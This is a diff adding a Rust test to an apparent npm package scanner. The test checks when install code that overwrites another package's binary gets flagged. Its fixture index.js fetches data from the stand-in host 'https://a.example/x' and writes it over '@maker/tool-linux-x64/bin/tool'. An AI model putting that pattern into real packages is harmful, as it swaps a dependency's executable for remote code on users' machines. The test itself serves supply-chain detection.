@@ -229,6 +229,28 @@ fn parts_for_platforms_are_the_packages_own() {
     assert_ne!(flows(&format!(r#"{{"name":"other",{declared}}}"#)), 0);
 }
 
+/// workerd keeps its parts in its maker's scope. Whoever names a package after the beginning of
+/// somebody else's does not own that one.
+#[test]
+fn parts_in_the_scope_of_the_maker_come_out_with_the_package() {
+    let flows = |part: &str, version: &str, declared: &str| {
+        let index = format!(
+            "const to = require.resolve('{part}/bin/tool'); require('https').get('https://a.example/x', (r) => {{ r.on('data', (d) => require('fs').writeFileSync(to, d)) }});"
+        );
+        let manifest = format!(
+            r#"{{"name":"tool","version":"{version}","optionalDependencies":{{"{declared}":"1.0.0"}}}}"#
+        );
+        let files = [("package.json", &*manifest), ("index.js", &*index)];
+        installed(&files).flows.len()
+    };
+    let part = "@maker/tool-linux-x64";
+    assert_eq!(flows(part, "1.0.0", part), 0);
+    assert_ne!(flows(part, "1.0.1", part), 0);
+    assert_ne!(flows(part, "1.0.0", "@maker/tool-darwin-x64"), 0);
+    let library = "@maker/tool-kit";
+    assert_ne!(flows(library, "1.0.0", library), 0);
+}
+
 #[test]
 fn files_that_are_not_its_own_are_told_wherever_their_paths_come_from() {
     for (kind, index) in [
